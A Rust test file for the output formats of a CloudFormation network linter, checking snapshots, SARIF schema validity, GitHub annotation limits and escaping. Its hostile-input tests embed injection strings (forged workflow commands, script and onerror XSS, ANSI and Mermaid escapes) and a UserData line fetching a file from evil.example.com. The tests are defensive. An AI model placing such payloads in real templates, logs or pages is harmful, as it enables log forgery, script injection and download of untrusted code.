//! The machine formats (SPEC §3, §4): concise, json, github, sarif and
//! markdown, as snapshots on the seed and on broken fixtures, plus the properties that
//! snapshots cannot show: the SARIF log validates against the official
//! schema, GitHub's annotation limit, and hostile template text that must
//! not inject a workflow command or break any format.

use privnet_lint::finding::PAGES;
use privnet_lint::report::{Report, concise, github, human, json, markdown, sarif};
use privnet_lint::{Options, lint_text};
use serde_json::Value;

/// Lints a fixture for one region, against the account state its header
/// names (`# account-state: fixtures/state/…`), if any.
fn lint(path: &str, region: &str) -> Report {
    let text = std::fs::read_to_string(path).expect("fixture");
    let state = text.lines().take_while(|l| l.starts_with('#')).find_map(|l| l.strip_prefix("# account-state:"));
    lint_with(path, region, state.map(str::trim))
}

fn lint_with(path: &str, region: &str, state: Option<&str>) -> Report {
    let text = std::fs::read_to_string(path).expect("fixture");
    let mut opts = Options::for_regions([region]);
    opts.account_state = state.map(|s| {
        std::sync::Arc::new(privnet_lint::state::AccountState::load(&[s.into()], &opts.regions).expect("state"))
    });
    Report { results: lint_text(path, &text, &opts) }
}

/// Every `fixtures/rules/*.fail.yaml`, each linted on its own, in one report.
fn every_failing_fixture() -> Report {
    let mut paths: Vec<String> = std::fs::read_dir("fixtures/rules")
        .expect("fixtures/rules")
        .filter_map(|e| e.ok().map(|e| e.path().display().to_string()))
        .filter(|p| p.ends_with(".fail.yaml"))
        .collect();
    paths.sort();
    let mut report = Report::default();
    for p in paths {
        report.results.extend(lint(&p, "us-east-1").results);
    }
    report
}

const CASES: &[(&str, &str, &str)] = &[
    ("seed_ap_northeast_1", "fixtures/seed-stack.yaml", "ap-northeast-1"),
    ("seed_us_east_1", "fixtures/seed-stack.yaml", "us-east-1"),
    ("pn101_no_route_to_s3", "fixtures/rules/PN101-no-route-to-s3.fail.yaml", "us-east-1"),
    ("pn203_endpoint_sg_blocks_ingress", "fixtures/rules/PN203-endpoint-sg-blocks-ingress.fail.yaml", "us-east-1"),
    ("pn302_nacl_blocks_return", "fixtures/rules/PN302-nacl-blocks-return.fail.yaml", "us-east-1"),
    ("pn402_private_dns_disabled", "fixtures/rules/PN402-endpoint-private-dns-disabled.fail.yaml", "us-east-1"),
    // "cannot be verified" is a note in every format (SPEC §3)
    (
        "pn106_route_target_outside_template",
        "fixtures/rules/PN106-route-target-outside-template.fail.yaml",
        "us-east-1",
    ),
    // an open subnet: the note at the parameter, the certain hops evaluated
    ("open_subnet", "fixtures/scenarios/open-subnet.yaml", "us-east-1"),
];

/// Templates on a deployed network (`--account-state`): findings on
/// deployed resources carry `state` (JSON), a related location and a
/// `state` property (SARIF).
const STATE_CASES: &[(&str, &str, &str, &str)] = &[
    ("deployed_no_s3_route", "fixtures/state/templates/app.yaml", "us-east-1", "fixtures/state/no-s3-route"),
    (
        "deployed_dns_hostnames_off",
        "fixtures/state/templates/app.yaml",
        "us-east-1",
        "fixtures/state/dns-hostnames-off",
    ),
];

/// Every case: the plain ones, then those with account state.
fn cases() -> Vec<(&'static str, Report)> {
    let plain = CASES.iter().map(|(name, path, region)| (*name, lint(path, region)));
    let stated = STATE_CASES.iter().map(|(name, path, region, state)| (*name, lint_with(path, region, Some(state))));
    plain.chain(stated).collect()
}

/// The SARIF log without `tool.driver.rules`, which is the same in every
/// log and checked on its own by `sarif_rules_come_from_the_pages`.
fn sarif_without_rules(report: &Report) -> Value {
    let mut log: Value = serde_json::from_str(&sarif::render(report)).expect("SARIF is JSON");
    let rules = &mut log["runs"][0]["tool"]["driver"]["rules"];
    let n = rules.as_array().map(Vec::len).unwrap_or(0);
    *rules = Value::String(format!("<{n} rules>"));
    log["runs"][0]["tool"]["driver"]["version"] = Value::String("<version>".into());
    log["runs"][0]["tool"]["driver"]["semanticVersion"] = Value::String("<version>".into());
    log
}

#[test]
fn concise_snapshots() {
    for (name, report) in cases() {
        insta::assert_snapshot!(format!("concise_{name}"), concise::render(&report));
    }
    insta::assert_snapshot!("concise_every_failing_fixture", concise::render(&every_failing_fixture()));
}

#[test]
fn github_snapshots() {
    for (name, report) in cases() {
        insta::assert_snapshot!(format!("github_{name}"), github::render(&report));
    }
    insta::assert_snapshot!("github_every_failing_fixture", github::render(&every_failing_fixture()));
}

#[test]
fn sarif_snapshots() {
    for (name, report) in cases() {
        insta::assert_json_snapshot!(format!("sarif_{name}"), sarif_without_rules(&report));
    }
}

#[test]
fn json_snapshots() {
    for (name, report) in cases() {
        let text = json::render(&report);
        let doc: Value = serde_json::from_str(&text).expect("JSON");
        assert_eq!(doc["schema"], "privnet-lint/v1");
        // the text itself: field order is part of what people read
        insta::assert_snapshot!(format!("json_{name}"), text);
    }
}

#[test]
fn markdown_snapshots() {
    for (name, report) in cases() {
        insta::assert_snapshot!(format!("markdown_{name}"), markdown::render(&report));
    }
}

#[test]
fn several_regions_report_a_finding_once_with_its_regions() {
    let text = std::fs::read_to_string("fixtures/rules/PN101-no-route-to-s3.fail.yaml").unwrap();
    let opts = Options::for_regions(["us-east-1", "eu-west-1"]);
    let report = Report { results: lint_text("t.yaml", &text, &opts) };
    insta::assert_snapshot!("markdown_two_regions", markdown::render(&report));
    let gh = github::render(&report);
    assert!(gh.lines().all(|l| l.starts_with("::")), "{gh}");
}

// --- SARIF ---------------------------------------------------------------

fn sarif_validator() -> jsonschema::Validator {
    // the official schema (OASIS sarif-spec): a copy of ../shared/schemas/
    // kept in the repository, so the validation runs on any checkout
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/sarif-schema-2.1.0.json");
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let schema: Value = serde_json::from_str(&text).expect("schema is JSON");
    jsonschema::draft4::options().should_validate_formats(true).build(&schema).expect("schema compiles")
}

#[test]
fn vendored_schema_is_the_shared_one() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let Ok(shared) = std::fs::read(root.join("../shared/schemas/sarif-schema-2.1.0.json")) else {
        eprintln!("../shared is not next to this checkout; skipped");
        return;
    };
    assert_eq!(std::fs::read(root.join("tests/data/sarif-schema-2.1.0.json")).unwrap(), shared);
}

fn assert_valid(validator: &jsonschema::Validator, log: &Value, what: &str) {
    let errors: Vec<String> = validator.iter_errors(log).map(|e| format!("{} at {}", e, e.instance_path())).collect();
    assert!(errors.is_empty(), "{what}: SARIF invalid:\n{}", errors.join("\n"));
}

/// Every string in the log, with its JSON path.
fn strings<'a>(v: &'a Value, path: String, out: &mut Vec<(String, &'a str)>) {
    match v {
        Value::String(s) => out.push((path, s)),
        Value::Array(a) => a.iter().enumerate().for_each(|(i, x)| strings(x, format!("{path}/{i}"), out)),
        Value::Object(o) => o.iter().for_each(|(k, x)| strings(x, format!("{path}/{k}"), out)),
        _ => {}
    }
}

#[test]
fn sarif_validates_against_the_official_schema() {
    let validator = sarif_validator();
    let mut reports: Vec<(String, Report)> = cases().into_iter().map(|(name, r)| (name.to_string(), r)).collect();
    reports.push(("every failing fixture".into(), every_failing_fixture()));
    reports.push(("hostile".into(), hostile()));
    reports.push(("empty".into(), Report::default()));
    for (name, report) in &reports {
        let log: Value = serde_json::from_str(&sarif::render(report)).expect("JSON");
        assert_valid(&validator, &log, name);
        let mut all = Vec::new();
        strings(&log, String::new(), &mut all);
        for (path, s) in all {
            assert!(!s.is_empty(), "{name}: empty string at {path}");
            assert!(!path.ends_with("helpUri"), "{name}: helpUri at {path}");
        }
        let results = log["runs"][0]["results"].as_array().unwrap();
        let findings: usize = report.results.iter().map(|r| r.findings.len()).sum();
        assert!(results.len() <= findings && (findings == 0) == results.is_empty(), "{name}");
        for r in results {
            let uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().unwrap();
            assert!(!uri.starts_with('/') && !uri.starts_with("./"), "{name}: {uri} is not repo-relative");
            let region = &r["locations"][0]["physicalLocation"]["region"];
            for k in ["startLine", "startColumn", "endLine", "endColumn"] {
                assert!(region[k].as_u64().is_some_and(|n| n >= 1), "{name}: region.{k} in {r}");
            }
        }
    }
    // the validator is not vacuous
    let mut broken: Value = serde_json::from_str(&sarif::render(&reports[2].1)).unwrap();
    broken["runs"][0]["results"][0]["level"] = Value::String("fatal".into());
    assert!(validator.iter_errors(&broken).next().is_some(), "a bad level must fail validation");
}

#[test]
fn sarif_rules_come_from_the_pages() {
    let log: Value = serde_json::from_str(&sarif::render(&Report::default())).unwrap();
    let driver = &log["runs"][0]["tool"]["driver"];
    assert_eq!(driver["name"], "privnet-lint");
    assert_eq!(log["runs"][0]["columnKind"], "unicodeCodePoints");
    let rules = driver["rules"].as_array().unwrap();
    assert_eq!(rules.len(), PAGES.len());
    for (rule, page) in rules.iter().zip(PAGES) {
        assert_eq!(rule["id"], page.id);
        assert_eq!(rule["name"], page.name);
        assert_eq!(rule["shortDescription"]["text"], page.summary);
        assert_eq!(rule["defaultConfiguration"]["level"], page.severity.as_str());
        let body = privnet_lint::cli::strip_front_matter(page.markdown).trim_end();
        assert_eq!(rule["help"]["markdown"], body, "{}", page.id);
        assert_eq!(rule["help"]["text"], body, "{}", page.id);
        let full = rule["fullDescription"]["text"].as_str().unwrap();
        // the first paragraph of "What it detects", reflowed onto one line
        let section = body.split("## What it detects").nth(1).unwrap_or_default();
        let first = section.trim_start().split("\n\n").next().unwrap_or_default();
        assert_eq!(full, first.split_whitespace().collect::<Vec<_>>().join(" "), "{}", page.id);
    }
    insta::assert_snapshot!(
        "sarif_rule_pn402",
        serde_json::to_string_pretty(&rules.iter().find(|r| r["id"] == "PN402").unwrap()).unwrap()
    );
}

#[test]
fn sarif_blocked_paths_have_their_other_hops_as_related_locations() {
    let log: Value = serde_json::from_str(&sarif::render(&lint(CASES[2].1, "us-east-1"))).unwrap();
    let result = &log["runs"][0]["results"][0];
    assert_eq!(result["ruleId"], "PN101");
    let related = result["relatedLocations"].as_array().expect("related locations");
    let texts: Vec<&str> = related.iter().map(|r| r["message"]["text"].as_str().unwrap()).collect();
    assert!(texts.iter().any(|t| t.contains("security-group-egress")), "{texts:?}");
    assert!(texts.iter().any(|t| t.contains("nacl-outbound")), "{texts:?}");
    let main = &result["locations"][0]["physicalLocation"]["region"];
    for r in related {
        assert_ne!(&r["physicalLocation"]["region"], main, "the finding's own place is not related to itself");
    }
}

// --- GitHub --------------------------------------------------------------

/// One workflow command the way the Actions runner reads a log line
/// (actions/runner `ActionCommand.TryParseV2`): trimmed, `::`, the command
/// and properties up to the next `::`, properties split on `,` then `=`,
/// values unescaped.
#[derive(Debug)]
struct Command {
    name: String,
    properties: Vec<(String, String)>,
    data: String,
}

fn unescape(s: &str, property: bool) -> String {
    let mut s = s.replace("%0D", "\r").replace("%0A", "\n");
    if property {
        s = s.replace("%3A", ":").replace("%2C", ",");
    }
    s.replace("%25", "%")
}

fn parse_command(line: &str) -> Option<Command> {
    let line = line.trim_start();
    let rest = line.strip_prefix("::")?;
    let end = rest.find("::")?;
    let (head, data) = (&rest[..end], &rest[end + 2..]);
    let (name, props) = head.split_once(' ').unwrap_or((head, ""));
    let properties = props
        .split(',')
        .filter(|p| !p.is_empty())
        .filter_map(|p| p.split_once('=').map(|(k, v)| (k.to_string(), unescape(v, true))))
        .collect();
    Some(Command { name: name.to_string(), properties, data: unescape(data, false) })
}

fn commands(text: &str) -> Vec<Command> {
    text.lines().filter_map(parse_command).collect()
}

fn prop<'a>(c: &'a Command, key: &str) -> Option<&'a str> {
    c.properties.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str())
}

#[test]
fn github_annotations_point_at_the_node_to_edit() {
    let report = lint(CASES[2].1, "us-east-1");
    let out = github::render(&report);
    let cmds = commands(&out);
    assert_eq!(cmds.len(), 1, "{out}");
    let c = &cmds[0];
    assert_eq!(c.name, "error");
    assert_eq!(prop(c, "file"), Some("fixtures/rules/PN101-no-route-to-s3.fail.yaml"));
    assert_eq!(prop(c, "line"), Some("18"));
    assert_eq!(prop(c, "col"), Some("3"));
    assert_eq!(prop(c, "title"), Some("PN101 no-route-to-s3"));
    assert!(c.data.starts_with("fixtures/rules/PN101-no-route-to-s3.fail.yaml:18:3: dnf on Instance"), "{}", c.data);
    assert!(c.data.contains("\n\nFix: Add an S3 gateway endpoint"), "the fix travels, unescaped by the runner");
}

#[test]
fn github_columns_only_on_one_line() {
    let report = every_failing_fixture();
    for c in commands(&github::render(&report)) {
        if prop(&c, "file").is_none() {
            continue;
        }
        let (line, end) = (prop(&c, "line"), prop(&c, "endLine"));
        if line != end {
            assert!(prop(&c, "col").is_none() && prop(&c, "endColumn").is_none(), "{c:?}");
        }
        if let (Some(col), Some(end_col)) = (prop(&c, "col"), prop(&c, "endColumn")) {
            assert!(end_col.parse::<u32>().unwrap() >= col.parse::<u32>().unwrap(), "{c:?}");
        }
    }
}

#[test]
fn github_cuts_at_ten_per_severity_with_a_notice() {
    let report = every_failing_fixture();
    let total_errors: usize = report.results.iter().map(|r| r.count(privnet_lint::finding::Severity::Error)).sum();
    assert!(total_errors > github::LIMIT, "the fixtures give more than ten errors ({total_errors})");
    let out = github::render(&report);
    let cmds = commands(&out);
    for name in ["error", "warning", "notice"] {
        let n = cmds.iter().filter(|c| c.name == name).count();
        assert!(n <= github::LIMIT, "{n} {name} annotations");
    }
    assert_eq!(cmds.iter().filter(|c| c.name == "error").count(), github::LIMIT);
    let notice = cmds.iter().find(|c| prop(c, "title") == Some("privnet-lint: annotations cut")).expect("a notice");
    let cut_lines: Vec<&str> = out.lines().filter(|l| l.starts_with("privnet-lint: ")).collect();
    let cut_errors = cut_lines.iter().filter(|l| l.starts_with("privnet-lint: error ")).count();
    assert_eq!(cut_errors, total_errors - github::LIMIT);
    assert!(notice.data.contains(&format!("{cut_errors} more errors")), "{}", notice.data);
    // every finding is either annotated or on a log line
    let items = github::items(&report).len();
    assert_eq!(cmds.len() - 1 + cut_lines.len(), items);
}

// --- hostile template text ------------------------------------------------

/// Logical IDs, a description and a UserData URL made to break out of every
/// format: workflow commands, escapes, CR/LF, ANSI, HTML, Markdown, Mermaid.
const HOSTILE: &str = r#"AWSTemplateFormatVersion: "2010-09-09"
Description: "::error file=x::injected <script>alert(1)</script>"
Resources:
  "Vpc::error::x%0A,y\n::warning::z":
    Type: AWS::EC2::VPC
    Properties:
      CidrBlock: 10.0.0.0/16
  "Subnet\u001b[31m<img src=x onerror=alert(1)>@octocat #1 |`](javascript:x)":
    Type: AWS::EC2::Subnet
    Properties:
      VpcId: !Ref "Vpc::error::x%0A,y\n::warning::z"
      CidrBlock: 10.0.1.0/24
  "Instance\"]:::block\n%%{init: {}}%%\r\n::error::pwned\u2028::notice::x":
    Type: AWS::EC2::Instance
    Properties:
      ImageId: ami-12345678
      SubnetId: !Ref "Subnet\u001b[31m<img src=x onerror=alert(1)>@octocat #1 |`](javascript:x)"
      UserData:
        Fn::Base64: |
          #!/bin/bash
          curl -o /tmp/x "https://evil.example.com/::error file=a::b%0A<b>x</b>"
"#;

fn hostile() -> Report {
    let opts = Options::default();
    Report { results: lint_text("hostile,dir:x/t.yaml", HOSTILE, &opts) }
}

#[test]
fn hostile_text_cannot_inject_a_workflow_command() {
    let report = hostile();
    assert!(report.results[0].findings.len() >= 3, "the hostile template gives findings");
    let out = github::render(&report);
    let cmds = commands(&out);
    // one command per line, each one of ours: nothing else starts with `::`
    for line in out.lines() {
        let c = parse_command(line).expect("every line is a command");
        assert!(["error", "warning", "notice"].contains(&c.name.as_str()), "{line}");
        assert_eq!(prop(&c, "file"), Some("hostile,dir:x/t.yaml"), "{line}");
        let title = prop(&c, "title").unwrap();
        assert!(title.starts_with("PN") && !title.contains("::"), "{title}");
        assert!(c.data.starts_with("hostile,dir:x/t.yaml:"), "{}", c.data);
        assert!(!c.data.contains('\u{1b}'), "no ANSI escape reaches the log");
        assert!(!line.contains('\r') && !line.contains('\u{2028}'));
    }
    assert_eq!(cmds.len(), out.lines().count());
    assert_eq!(cmds.len(), github::items(&report).len());
    // the runner gets the logical ID back intact (minus what could not be shown)
    assert!(cmds.iter().any(|c| c.data.contains("Instance\"]:::block\n%%{init: {}}%%\r\n::error::pwned")));
}

#[test]
fn hostile_text_keeps_concise_on_one_line_per_finding() {
    let report = hostile();
    let out = concise::render(&report);
    assert_eq!(out.lines().count(), report.results[0].findings.len(), "{out}");
    assert!(!out.contains('\u{1b}') && !out.contains('\r'));
    assert!(out.lines().all(|l| l.starts_with("hostile,dir:x/t.yaml:")));
}

#[test]
fn hostile_text_is_inert_in_markdown() {
    let out = markdown::render(&hostile());
    // no line reads as a workflow command when the report is printed to a log
    assert!(out.lines().all(|l| !l.trim_start().starts_with("::")), "{out}");
    assert!(!out.contains('\u{1b}'));
    let mut in_mermaid = false;
    let mut fence = String::new();
    for line in out.lines() {
        if fence.is_empty() {
            if line.starts_with("```") {
                fence = line.chars().take_while(|c| *c == '`').collect();
                in_mermaid = line.ends_with("mermaid");
                continue;
            }
            // prose: no HTML from the template, no mention, no issue link
            // (code blocks show text as is, and GitHub links nothing in them)
            assert!(!line.contains('<') && !line.contains("@octocat") && !line.contains("#1 "), "{line}");
            if line.starts_with('|') {
                // a table row keeps its six columns: template `|` is escaped
                let cells = line.replace("\\|", "").matches('|').count();
                assert_eq!(cells, 7, "{line}");
            }
        } else if line == fence {
            fence.clear();
            in_mermaid = false;
        } else if in_mermaid {
            assert!(!line.replace("<br/>", "").contains('<') && !line.contains("@octocat"), "{line}");
            // every Mermaid line is ours: a quoted label holds no quote
            let t = line.trim_start();
            let ours = ["flowchart ", "subgraph p", "p", "end", "classDef ", "class "];
            assert!(ours.iter().any(|p| t.starts_with(p)), "{line}");
            assert!(line.matches('"').count() % 2 == 0 && !t.contains("\"\"]"), "{line}");
            if let Some(label) = t.split_once("[\"").map(|(_, l)| l) {
                let inner = label.strip_suffix("\"]").expect("label ends the line");
                assert!(!inner.contains('"') && !inner.contains('`') && !inner.contains(":::"), "{line}");
            }
        } else {
            assert!(!line.starts_with("```"), "a fence closed early: {line}");
        }
    }
    assert!(fence.is_empty(), "every fence is closed");
}

#[test]
fn hostile_text_is_plain_data_in_sarif() {
    let log: Value = serde_json::from_str(&sarif::render(&hostile())).expect("JSON");
    assert_valid(&sarif_validator(), &log, "hostile");
    let uri = log["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str();
    assert_eq!(uri, Some("hostile%2Cdir%3Ax/t.yaml"));
}

#[test]
fn hostile_text_cannot_forge_commands_in_human_output() {
    // the default format is what most CI logs show
    let out = human::render(&hostile(), human::Style { color: false, quiet: false });
    assert!(!out.is_empty());
    assert!(out.lines().all(|l| !l.trim_start().starts_with("::")), "{out}");
    assert!(!out.contains('\u{1b}') && !out.contains('\r'), "{out}");
}

/// The hostile template's logical IDs, as the JSON formats must give them
/// back: exactly, once parsed.
const HOSTILE_IDS: [&str; 3] = [
    "Vpc::error::x%0A,y\n::warning::z",
    "Subnet\u{1b}[31m<img src=x onerror=alert(1)>@octocat #1 |`](javascript:x)",
    "Instance\"]:::block\n%%{init: {}}%%\r\n::error::pwned\u{2028}::notice::x",
];

fn strings_in(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::String(s) => out.push(s.clone()),
        Value::Array(a) => a.iter().for_each(|x| strings_in(x, out)),
        Value::Object(o) => o.iter().for_each(|(k, x)| {
            out.push(k.clone());
            strings_in(x, out)
        }),
        _ => {}
    }
}

/// JSON text with no raw control character anywhere: inside strings they
/// must be escaped, outside only the pretty-printer's newlines and spaces.
fn assert_escaped_json(text: &str, what: &str) -> Value {
    let doc: Value = serde_json::from_str(text).unwrap_or_else(|e| panic!("{what} is not JSON: {e}"));
    for (i, c) in text.char_indices() {
        assert!(!c.is_control() || c == '\n' || c == ' ', "{what}: raw {c:?} at byte {i}");
    }
    assert!(!text.contains('\u{2028}') || doc.to_string().contains('\u{2028}'), "{what}");
    doc
}

#[test]
fn hostile_text_is_escaped_in_json() {
    let report = hostile();
    let doc = assert_escaped_json(&json::render(&report), "json");
    let mut strings = Vec::new();
    strings_in(&doc, &mut strings);
    // the resource of each finding comes back exactly as the template has it
    let resources: Vec<&str> =
        doc["results"][0]["findings"].as_array().unwrap().iter().filter_map(|f| f["resource"].as_str()).collect();
    assert!(resources.contains(&HOSTILE_IDS[2]), "{resources:?}");
    assert!(strings.iter().any(|s| s == HOSTILE_IDS[2]));
    assert_eq!(doc["results"][0]["file"].as_str().or(doc["results"][0]["path"].as_str()), Some("hostile,dir:x/t.yaml"));
}

mod trace_and_graph {
    use super::*;
    use privnet_lint::lint::analyze_file;
    use privnet_lint::reach::{TraceTarget, trace};
    use privnet_lint::report::{graph, trace as trace_report};

    fn analysis() -> privnet_lint::lint::Analysis {
        let opts = Options::default();
        analyze_file("hostile,dir:x/t.yaml", HOSTILE, "us-east-1", &opts).expect("a template")
    }

    fn traced() -> Vec<trace_report::Traced> {
        let a = analysis();
        let mut out = Vec::new();
        for w in &a.network.workloads {
            for target in [TraceTarget::S3, TraceTarget::Ssm] {
                for (subnet, p) in trace(&a.network, "us-east-1", &w.id, &target) {
                    out.push(trace_report::Traced {
                        path: "hostile,dir:x/t.yaml".into(),
                        region: "us-east-1".into(),
                        workload: w.id.clone(),
                        source: None,
                        subnet,
                        destination: "ssm.us-east-1.amazonaws.com:443".into(),
                        trace: p,
                    });
                }
            }
        }
        assert!(!out.is_empty(), "the hostile instance is traced");
        out
    }

    #[test]
    fn trace_text_cannot_forge_lines() {
        let out = trace_report::render_text(&traced());
        assert!(!out.contains('\u{1b}') && !out.contains('\r'), "{out:?}");
        assert!(out.lines().all(|l| !l.trim_start().starts_with("::")), "{out}");
        // one header per trace: the IDs' line breaks did not add lines that
        // look like headers or hops
        let headers = out.lines().filter(|l| l.starts_with("hostile,dir:x/t.yaml (us-east-1): ")).count();
        assert_eq!(headers, traced().len(), "{out}");
        for l in out.lines().filter(|l| !l.is_empty()) {
            let hop = l.starts_with("  ")
                && l[2..].trim_start().split_once(". ").is_some_and(|(n, _)| n.parse::<u32>().is_ok());
            let header = l.starts_with("hostile,dir:x/t.yaml (us-east-1): ");
            let detail = l.starts_with("      ");
            assert!(hop || header || detail, "a line of neither shape: {l:?}\n{out}");
        }
    }

    #[test]
    fn trace_json_escapes_and_round_trips() {
        let doc = assert_escaped_json(&trace_report::render_json(&traced()), "trace json");
        let mut strings = Vec::new();
        strings_in(&doc, &mut strings);
        assert!(strings.iter().any(|s| s == HOSTILE_IDS[2]), "the workload ID comes back exactly");
    }

    /// Splits a DOT line into its quoted strings, checking that every
    /// string closes on the line it opens on (a backslash escapes one
    /// character).
    fn dot_strings(line: &str) -> Vec<String> {
        let mut out = Vec::new();
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            if c != '"' {
                assert!(!c.is_control(), "raw {c:?} outside a string: {line:?}");
                continue;
            }
            let mut s = String::new();
            loop {
                match chars.next() {
                    Some('"') => break,
                    Some('\\') => s.push(chars.next().unwrap_or_else(|| panic!("dangling backslash: {line:?}"))),
                    Some(c) => {
                        assert!(!c.is_control(), "raw {c:?} in a label: {line:?}");
                        s.push(c)
                    }
                    None => panic!("a string runs off the line: {line:?}"),
                }
            }
            out.push(s);
        }
        out
    }

    #[test]
    fn dot_labels_stay_inside_their_quotes() {
        let a = analysis();
        let out = graph::render_dot(&a.network, &a.workloads);
        assert!(out.starts_with("digraph privnet {\n") && out.trim_end().ends_with('}'), "{out}");
        let mut labels = Vec::new();
        for line in out.lines() {
            let t = line.trim();
            // each line is a statement of ours: outside strings only our syntax
            let bare: String = {
                let mut b = String::new();
                let mut inside = false;
                let mut esc = false;
                for c in t.chars() {
                    match (inside, esc, c) {
                        (true, true, _) => esc = false,
                        (true, false, '\\') => esc = true,
                        (_, false, '"') => inside = !inside,
                        (false, _, c) => b.push(c),
                        _ => {}
                    }
                }
                b
            };
            assert!(!bare.contains('<') && !bare.contains("::"), "template text outside quotes: {line:?}");
            labels.extend(dot_strings(line));
        }
        // the label carries the ID (line breaks as DOT's \n), so the reader sees it
        assert!(labels.iter().any(|l| l.contains("Instance\"]:::block")), "{labels:?}");
        // Graphviz, when installed, reads it
        if let Ok(mut child) = std::process::Command::new("dot")
            .arg("-Tsvg")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
        {
            use std::io::Write;
            child.stdin.take().unwrap().write_all(out.as_bytes()).unwrap();
            let done = child.wait_with_output().unwrap();
            assert!(done.status.success(), "dot rejects it: {}", String::from_utf8_lossy(&done.stderr));
        } else {
            eprintln!("Graphviz `dot` is not installed: DOT syntax checked by the test only");
        }
    }

    #[test]
    fn mermaid_labels_hold_no_syntax() {
        let a = analysis();
        let out = graph::render_mermaid(&a.network, &a.workloads);
        assert!(!out.contains('\u{1b}') && !out.contains('\r'));
        let ours = ["flowchart ", "n", "linkStyle ", "classDef ", "class ", "subgraph ", "end", "style "];
        for line in out.lines() {
            let t = line.trim_start();
            assert!(ours.iter().any(|p| t.starts_with(p)), "{line}");
            assert!(!t.starts_with("::") && !t.starts_with("%%"), "{line}");
            // a quoted label holds no quote, backtick, HTML or class shorthand
            let mut parts = t.split('"');
            parts.next();
            for (i, inner) in parts.enumerate() {
                if i % 2 == 0 {
                    let inner = inner.replace("<br/>", "");
                    // (`:::` inside quotes is text; `%%{` would start a directive)
                    assert!(!inner.contains('<') && !inner.contains('`') && !inner.contains("%%{"), "{line}");
                }
            }
            assert_eq!(t.matches('"').count() % 2, 0, "{line}");
        }
    }
}
